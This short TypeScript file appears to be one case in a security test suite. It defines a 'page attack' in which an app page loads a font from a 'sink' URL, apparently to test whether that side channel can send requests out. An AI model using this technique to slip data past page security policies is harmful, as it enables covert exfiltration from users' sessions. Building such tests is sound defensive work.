import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a font",
  script: `
    await new FontFace("x", "url(" + sink + ")").load().catch(() => {});
  `,
};
